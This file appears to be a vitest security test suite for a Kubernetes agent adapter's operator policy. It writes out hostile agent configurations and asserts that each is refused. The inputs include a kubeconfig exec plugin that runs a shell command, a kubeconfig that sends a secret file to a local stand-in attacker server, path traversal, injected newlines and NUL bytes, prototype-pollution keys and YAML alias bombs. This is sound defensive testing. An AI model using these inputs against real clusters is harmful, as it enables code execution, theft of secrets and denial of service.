/**
 * What an agent's configuration, or whoever may write one, tries against the operator's policy: each row through a run and
 * through the environment test of a server of its own, whose memory, event loop and open files are measured meanwhile.
 */
import { execFile } from "node:child_process";
import { once } from "node:events";
import { chmod, mkdir, mkdtemp, rm, stat, symlink, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { basename, dirname, join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import { jobs } from "../../src/kubernetes/resource-types.ts";
import type { Place } from "../cluster/support/place.ts";
import { INIT, RESULT } from "../cluster/support/run.ts";
import { usePlace } from "../cluster/support/use-place.ts";
import { GovernedServer, type IntrusionOptions } from "./support/governed.ts";
import type { Answer } from "./support/governed-main.ts";

let place: Place;
let folder = "";
let server: GovernedServer;
let attacker: Server;
/** Requests that reached the address of the attacker's kubeconfigs. */
const stolen: string[] = [];
usePlace((opened) => {
  place = opened;
});

const at = (name: string): string => join(folder, name);
const proof = (): string => at("a-program-ran");

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "governed-"));
  await mkdir(at("home/instances/default/secrets"), { recursive: true });
  await mkdir(at("home/claude_k8s"));
  await writeFile(at("home/instances/default/secrets/SKILL.md"), "TOP-SECRET");
  attacker = createServer(({ headers }, response) => {
    stolen.push(headers.authorization ?? "");
    response.end("{}");
  }).listen(0, "127.0.0.1");
  await once(attacker, "listening");
  await writeKubeconfigs();
  const policy = {
    clusters: {
      default: { kubeconfig: place.kubeconfig, namespace: place.namespace, namespaces: ["lab-{companyId}"] },
    },
    allow: {
      images: [place.image],
      pullPolicies: ["IfNotPresent"],
      claims: ["claude-{agentId}", "team-{companyId}-*"],
      labels: ["team"],
      nodeLabels: ["pool=agents"],
      tolerations: ["dedicated=agents:NoSchedule"],
    },
    limits: { timeoutSec: { max: 3600 }, retainJobs: false, resources: { memory: { min: "16Mi", max: "8Gi" } } },
  };
  await writeFile(at("policy.yaml"), stringify(policy));
  await chmod(at("policy.yaml"), 0o444);
  server = new GovernedServer(place, {
    PATH: process.env.PATH,
    PAPERCLIP_HOME: at("home"),
    PAPERCLIP_LISTEN_PORT: "3100",
    PAPERCLIP_K8S_POLICY: at("policy.yaml"),
    PAPERCLIP_K8S_HELLO_PROBE: "off",
    PAPERCLIP_AGENT_JWT_SECRET: "the-secret-of-all-tokens-of-this-paperclip",
  });
});
afterAll(async () => {
  server?.stop();
  attacker?.close();
  if (folder) await rm(folder, { recursive: true, force: true });
});

/** `evil`: starts a program. `thief`: sends a file of Paperclip's machine to an address. In the home, where agents may write. */
async function writeKubeconfigs(): Promise<void> {
  const url = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  const of = (user: object) => ({
    ...{
      apiVersion: "v1",
      kind: "Config",
      "current-context": "x",
      contexts: [{ name: "x", context: { cluster: "c", user: "u" } }],
    },
    ...{ clusters: [{ name: "c", cluster: { server: url } }], users: [{ name: "u", user }] },
  });
  const exec = { apiVersion: "client.authentication.k8s.io/v1", interactiveMode: "Never", command: "/bin/sh" };
  const evil = stringify(of({ exec: { ...exec, args: ["-c", `env > ${proof()}`] } }));
  await writeFile(at("home/evil.yaml"), evil);
  await writeFile(at("home/thief.yaml"), stringify(of({ tokenFile: at("home/instances/default/secrets/SKILL.md") })));
  await symlink(place.kubeconfig, at("home/linked.yaml"));
  await promisify(execFile)("mkfifo", [at("home/pipe.yaml")]);
  const places = { places: [{ kubeconfig: at("home/evil.yaml"), context: null, namespace: null }] };
  await writeFile(at("home/claude_k8s/places.json"), `${JSON.stringify(places)}\n`);
}

/** An agent that this policy lets run. */
const honest = (): Record<string, unknown> => ({
  image: place.image,
  command: ["sh", "-c", `cat >/dev/null; ${INIT}; ${RESULT}`, "claude"],
  "resources.requests.cpu": "50m",
  "resources.requests.memory": "64Mi",
  "resources.limits.memory": "512Mi",
  graceSec: 5,
  env: { ANTHROPIC_API_KEY: "a-key" },
});

interface Row extends Omit<IntrusionOptions, "config"> {
  /** Who tries what, in one sentence. */
  readonly who: string;
  readonly config: () => Record<string, unknown>;
  /** The key that the refusal names; null: nobody objects, and nothing happens. */
  readonly refused: string | null;
  /** @default k8s_policy_refused */
  readonly code?: "k8s_policy_refused" | "k8s_config_invalid";
  /** The environment test knows no agent whose id or instructions this could be about. */
  readonly runOnly?: boolean;
}

const row = (
  who: string,
  config: Row["config"] | Record<string, unknown>,
  refused: Row["refused"],
  more = {},
): Row => ({
  ...{ who, refused, config: typeof config === "function" ? (config as Row["config"]) : () => config, ...more },
});
const invalid = { code: "k8s_config_invalid" };
const taint = (toleration: object): Record<string, unknown> => ({ tolerations: [toleration] });

/** C1, L4, L5: a way to a cluster is never the agent's word. */
const ways: readonly Row[] = [
  row("a kubeconfig that starts a program", () => ({ kubeconfig: at("home/evil.yaml") }), "kubeconfig"),
  row("one that sends a file to an address", () => ({ kubeconfig: at("home/thief.yaml") }), "kubeconfig"),
  row("the administrator's kubeconfig", () => ({ kubeconfig: place.adminKubeconfig }), "kubeconfig"),
  row("a pipe as a kubeconfig", () => ({ kubeconfig: at("home/pipe.yaml") }), "kubeconfig"),
  row("a device without an end as one", { kubeconfig: "/dev/zero" }, "kubeconfig"),
  row("the server's environment as one", { kubeconfig: "/proc/self/environ" }, "kubeconfig"),
  row(
    "a detour through a permitted folder",
    () => ({ kubeconfig: `${dirname(place.kubeconfig)}/../${basename(folder)}/home/evil.yaml` }),
    "kubeconfig",
  ),
  row(
    "a link to the operator's kubeconfig, which could lead elsewhere tomorrow",
    () => ({ kubeconfig: at("home/linked.yaml") }),
    "kubeconfig",
  ),
  row(
    "the operator's path with a letter of another alphabet",
    () => ({ kubeconfig: place.kubeconfig.replace("e", "\u0435") }),
    "kubeconfig",
  ),
  row("the operator's path in capitals", () => ({ kubeconfig: place.kubeconfig.toUpperCase() }), "kubeconfig"),
  row(
    "the operator's path, and a second one in the next line",
    () => ({ kubeconfig: `${place.kubeconfig}\n${at("home/evil.yaml")}` }),
    "kubeconfig",
  ),
  row(
    "the operator's path up to a NUL",
    () => ({ kubeconfig: `${place.kubeconfig}\0${at("home/evil.yaml")}` }),
    "kubeconfig",
  ),
  row("an address as a kubeconfig", () => ({ kubeconfig: `file://${place.kubeconfig}` }), "kubeconfig"),
  row("a kubeconfig itself in the place of its path", { kubeconfig: { users: [] } }, "kubeconfig", invalid),
  row("a wildcard as a path", { kubeconfig: "/*" }, "kubeconfig"),
  row(
    "another context of the operator's kubeconfig",
    () => ({ kubeconfig: place.kubeconfig, kubeContext: "admin" }),
    "kubeconfig",
  ),
  row("a context alone", { kubeContext: "admin" }, "kubeContext"),
  row("the cluster __proto__", { cluster: "__proto__" }, "cluster"),
  row("the cluster constructor", { cluster: "constructor" }, "cluster"),
  row("the cluster DEFAULT", { cluster: "DEFAULT" }, "cluster"),
  row(
    "a cluster that exists, by another way",
    () => ({ cluster: "default", kubeconfig: at("home/evil.yaml") }),
    "kubeconfig",
  ),
  row(
    "variables of the server in the agent's environment",
    () => ({
      env: {
        ANTHROPIC_API_KEY: "a-key",
        KUBECONFIG: at("home/evil.yaml"),
        PAPERCLIP_K8S_POLICY: "/dev/null",
        PAPERCLIP_HOME: "/",
      },
    }),
    null,
  ),
];

/** H1: other agents' volumes. */
const volumes: readonly Row[] = [
  row("the database's volume", { homeClaim: "data-paperclip-postgres-0" }, "homeClaim"),
  row("another company's volume", { homeClaim: "team-zeta-1" }, "homeClaim"),
  row("the name of the pattern itself", { homeClaim: "claude-{agentId}" }, "homeClaim", invalid),
  row("an agent whose id is a wildcard", { homeClaim: "claude-bob" }, "homeClaim", { agentId: "*", runOnly: true }),
  row("a company whose id is a placeholder", { homeClaim: "team-bob-1" }, "homeClaim", {
    companyId: "{agentId}",
    agentId: "bob",
  }),
  row("a company whose id is a wildcard", { homeClaim: "team-zeta-1" }, "homeClaim", { companyId: "*" }),
  row("a path in a volume's name", { homeClaim: "claude-ada/../../bob" }, "homeClaim", { ...invalid, agentId: "ada" }),
];

/** H2: traffic and cloud identities. */
const labels: readonly Row[] = [
  row("a label by which Paperclip's Service selects", { labels: "app=paperclip" }, "labels"),
  row("one beside a label that is allowed", { labels: "team=a\napp=paperclip" }, "labels"),
  row("one as JSON", { labels: '{"team":"a","app":"paperclip"}' }, "labels"),
  row("a label that is allowed, in capitals", { labels: { Team: "a" } }, "labels"),
  row("a label that gives an identity of Azure", { labels: "azure.workload.identity/use=true" }, "labels"),
  row("a label that takes the mesh away", { labels: { "sidecar.istio.io/inject": "false" } }, "labels"),
  row("the adapter's own egress label", { labels: { "paperclip.io/egress": "open" } }, "labels"),
  row("an egress profile", { egress: "open" }, "egress"),
  row("Paperclip's service account", { serviceAccountName: "paperclip" }, "serviceAccountName"),
];

/** H3: nodes and namespaces. */
const placements: readonly Row[] = [
  row("the system's namespace", { namespace: "kube-system" }, "namespace"),
  row("another company's namespace", { namespace: "lab-zeta" }, "namespace"),
  row("its own namespace with a dot behind it", () => ({ namespace: `${place.namespace}.` }), "namespace", invalid),
  row("a namespace with a path in it", { namespace: "lab-company/../kube-system" }, "namespace", invalid),
  row("nodes of the control plane", { nodeSelector: "node-role.kubernetes.io/control-plane=" }, "nodeSelector"),
  row("another value of a node label that is allowed", { nodeSelector: { pool: "agents2" } }, "nodeSelector"),
  row("every taint", taint({ operator: "Exists" }), "tolerations"),
  row("every taint, by an empty key", taint({ key: "", operator: "Exists" }), "tolerations"),
  row("a wildcard as a taint", taint({ key: "*", operator: "Exists" }), "tolerations", invalid),
  row("an allowed taint with any value", taint({ key: "dedicated", operator: "Exists" }), "tolerations"),
  row("an allowed taint with any effect", taint({ key: "dedicated", value: "agents" }), "tolerations"),
  row(
    "an allowed taint with another effect",
    taint({ key: "dedicated", value: "agents", effect: "NoExecute" }),
    "tolerations",
  ),
  row(
    "an allowed taint, and every other as text",
    { tolerations: '[{"key":"dedicated","value":"agents","effect":"NoSchedule"},{"operator":"Exists"}]' },
    "tolerations",
  ),
];

/** H6: what takes the server's time. */
const bombs: readonly Row[] = [
  row("a megabyte of tolerations", { tolerations: `[${"{},".repeat(300_000)}{}]` }, "tolerations", invalid),
  row(
    "aliases that multiply",
    {
      tolerations: `[&a [x,x,x,x,x,x,x,x], &b [${"*a,".repeat(50)}*a], &c [${"*b,".repeat(50)}*b], [${"*c,".repeat(50)}*c]]`,
    },
    "tolerations",
    invalid,
  ),
  row("ten thousand brackets", { nodeSelector: "[".repeat(10_000) }, "nodeSelector", invalid),
  row(
    "ten thousand labels as an object",
    () => ({ labels: Object.fromEntries(Array.from({ length: 10_000 }, (_, n) => [`k${n}`, "x"])) }),
    "labels",
  ),
  row("a megabyte as a claim", { homeClaim: "a".repeat(1e6) }, "homeClaim", invalid),
  row("a megabyte as a kubeconfig", { kubeconfig: `/${"a".repeat(1e6)}` }, "kubeconfig"),
  row("a megabyte of stars as an image", { image: "*".repeat(1e6) }, "image"),
];

/** What a pod template can be beside one. */
const templates: readonly Row[] = [
  row(
    "a hundred thousand variables",
    () => {
      const env = Array.from({ length: 100_000 }, (_, n) => ({ name: `VARIABLE_${n}` }));
      return { podTemplate: { spec: { containers: [{ name: "claude", env }] } } };
    },
    "podTemplate",
    invalid,
  ),
  row(
    "twenty fields whose names are pages",
    () => ({
      podTemplate: { spec: Object.fromEntries(Array.from({ length: 20 }, (_, n) => [`${n}${"x".repeat(3000)}`, {}])) },
    }),
    "podTemplate",
    invalid,
  ),
  row("a prototype", { podTemplate: '{"spec": {"__proto__": {"hostPID": true}}}' }, "podTemplate", invalid),
  row("a constructor", { podTemplate: { spec: { constructor: {} } } }, "podTemplate", invalid),
  row("the same field twice", { podTemplate: "spec: {hostPID: false, hostPID: true}" }, "podTemplate", invalid),
  row("nothing in the place of all", { podTemplate: { $patch: "replace" } }, "podTemplate"),
  row("an order", { podTemplate: { spec: { "$setElementOrder/containers": [{ name: "x" }] } } }, "podTemplate"),
  row("a retained key", { podTemplate: { spec: { $retainKeys: ["hostPID"] } } }, "podTemplate"),
];

/** H7, M3, M5: how much. */
const amounts: readonly Row[] = [
  row("a grace of a year", { graceSec: 31_536_000 }, "graceSec"),
  row("a grace of a year as text", { graceSec: "31536000" }, "graceSec"),
  row("a grace beyond what a timer can wait", { graceSec: 1e9 }, "graceSec", invalid),
  row("a grace in hexadecimal", { graceSec: "0x7fffffff" }, "graceSec", invalid),
  row("a run of a year", { timeoutSec: 31_000_000 }, "timeoutSec"),
  row("a run of a year, as text", { timeoutSec: "31000000" }, "timeoutSec"),
  row("a run that ends before it begins", { timeoutSec: -1 }, "timeoutSec", invalid),
  row("a Job that stays for 68 years", { ttlSecondsAfterFinished: 2_147_483_647 }, "ttlSecondsAfterFinished"),
  row("Jobs that stay", { retainJobs: "true" }, "retainJobs"),
  row("a petabyte of memory", { "resources.limits.memory": "1Pi" }, "resources.limits.memory"),
  row("a petabyte in bytes", { "resources.limits.memory": "1125899906842624" }, "resources.limits.memory"),
  row("a petabyte as a power", { "resources.limits.memory": "1e15" }, "resources.limits.memory"),
  row(
    "a petabyte nested",
    { "resources.limits.memory": null, resources: { limits: { memory: "1Pi" } } },
    "resources.limits.memory",
  ),
  row(
    "a petabyte, and a modest amount nested beside it",
    { "resources.limits.memory": "1Pi", resources: { limits: { memory: "1Gi" } } },
    "resources.limits.memory",
  ),
  row(
    "a modest amount, and a petabyte nested beside it that does not count",
    { "resources.limits.memory": "512Mi", resources: { limits: { memory: "1Pi" } } },
    null,
  ),
  row("memory that the node cannot count", { "resources.requests.memory": "1" }, "resources.requests.memory"),
  row("another image", { image: "registry.example.com/evil:1" }, "image"),
  row(
    "the image, and another in the next line",
    () => ({ image: `${place.image}\nregistry.example.com/evil:1` }),
    "image",
  ),
  row("what a node has cached", { imagePullPolicy: "Never" }, "imagePullPolicy"),
];

/** C3: files of Paperclip's machine. */
const files: readonly Row[] = [
  row(
    "a task that names its agent's instructions",
    { instructionsFilePath: "/proc/self/environ" },
    "instructionsFilePath",
    { ...invalid, runOnly: true },
  ),
  row("its working folder outside of the pod's home", { cwd: "../../etc" }, "cwd", invalid),
];

/** Megabytes above the server before; an honest run takes about 70. */
const MOST_RSS_MB = 250;
/** Milliseconds of CPU that one turn of the event loop takes; the first ones load the adapter. */
const MOST_BLOCKED_MS = 1500;
/** Milliseconds by the clock, on a busy machine, for what is refused without asking anybody. */
const MOST_MS = 10_000;

async function requireUnharmed({ cost }: Answer, isRefused: boolean): Promise<void> {
  expect(cost.rssMb).toBeLessThan(MOST_RSS_MB);
  expect(cost.blockedMs).toBeLessThan(MOST_BLOCKED_MS);
  expect(cost.openFiles).toBeLessThan(20);
  if (isRefused) expect(cost.tookMs).toBeLessThan(MOST_MS);
  await expect(stat(proof())).rejects.toThrow(/ENOENT/);
  expect(stolen).toEqual([]);
}

describe.each([
  ["another way to a cluster", ways],
  ["another's volume", volumes],
  ["traffic and identities", labels],
  ["nodes and namespaces", placements],
  ["the server's time", bombs],
  ["another pod", templates],
  ["more than its share", amounts],
  ["files of Paperclip's machine", files],
])("an agent that wants %s", (_, rows) => {
  it.each(rows)("$who", async (attack) => {
    const { refused, code = "k8s_policy_refused", companyId, agentId } = attack;
    const options = {
      config: { ...honest(), ...attack.config() },
      ...(companyId === undefined ? {} : { companyId }),
      ...(agentId === undefined ? {} : { agentId }),
    };
    const run = await server.attack("execute", options);
    await requireUnharmed(run, refused !== null);
    if (refused === null) expect(run.result).toMatchObject({ exitCode: 0, errorCode: null });
    else {
      expect(run.result).toMatchObject({ errorCode: code, errorMessage: expect.stringContaining(refused) });
      expect(run.result?.resultJson?.job ?? null).toBeNull();
      expect(run.result?.errorMessage?.length).toBeLessThan(20_000);
    }
    if (attack.runOnly) return;
    const tested = await server.attack("test", options);
    await requireUnharmed(tested, refused !== null);
    const codes = tested.test?.checks.filter(({ level }) => level === "error").map((check) => check.code);
    if (refused === null) expect(codes).toEqual([]);
    else {
      expect(codes).toContain(code);
      expect(tested.test?.checks.map((check) => check.code)).not.toContain("k8s_api_reachable");
      expect(tested.test?.checks.find((check) => check.code === code)?.message).toMatch(
        new RegExp(`^${refused}(\\.\\S+)? `),
      );
    }
  });
});

describe("whoever presses Test", () => {
  const checksOf = async (config: Record<string, unknown>) =>
    (await server.attack("test", { config: { ...honest(), ...config } })).test?.checks ?? [];

  it("is told which policy holds", async () => {
    const checks = await checksOf({});
    expect(checks.find(({ code }) => code === "k8s_policy")?.message).toContain(at("policy.yaml"));
    expect(checks.filter(({ level }) => level === "error")).toEqual([]);
  });

  it("gets each refusal with the lines that the operator would add", async () => {
    const checks = await checksOf({ homeClaim: "x", labels: "app=y" });
    const refused = checks.filter(({ code }) => code === "k8s_policy_refused");
    expect(refused.map(({ hint }) => hint?.match(/add to .*: (allow: .*)$/)?.[1])).toEqual([
      "allow: {claims: [x]}",
      "allow: {labels: [app]}",
    ]);
  });

  it("learns nothing of files of Paperclip's machine, by skills or by instructions", async () => {
    const source = at("home/instances/default/secrets");
    const skill = { key: "x/y", runtimeName: "y", source, required: true };
    const asked = [
      { paperclipRuntimeSkills: [skill], paperclipSkillSync: { desiredSkills: ["x/y"] } },
      { paperclipRuntimeSkills: [{ ...skill, source: "/nowhere" }], paperclipSkillSync: { desiredSkills: ["x/y"] } },
      { instructionsFilePath: join(source, "SKILL.md"), instructionsRootPath: source },
      { instructionsFilePath: "/nowhere/at/all" },
    ];
    const found: string[][] = [];
    for (const config of [{}, ...asked]) found.push((await checksOf(config)).map(({ code }) => code));
    for (const other of found) expect(other).toEqual(found[0]);
  });

  it("starts no pod with a volume that may be another agent's, and is not refused its own", async () => {
    const checks = await checksOf({ homeClaim: "claude-somebody" });
    expect(checks.filter(({ level }) => level === "error").map(({ code }) => code)).toEqual([]);
    expect(checks.find(({ code }) => code === "k8s_policy_up_to_the_agent")).toMatchObject({
      message: expect.stringMatching(/homeClaim is "claude-somebody".*agent of that id alone.*without that volume/),
    });
  });
});

describe("whoever writes in Paperclip's home", () => {
  it("has the supervisor start no program by a list of places", async () => {
    await requireUnharmed(await server.attack("supervise", {}), true);
  });
});

it("after all of it the cluster has nothing of it", async () => {
  const { items } = await place.admin.list(jobs, place.namespace, {
    labelSelector: "app.kubernetes.io/component!=bundle",
  });
  expect(items.map(({ metadata }) => metadata.name)).toEqual([]);
});
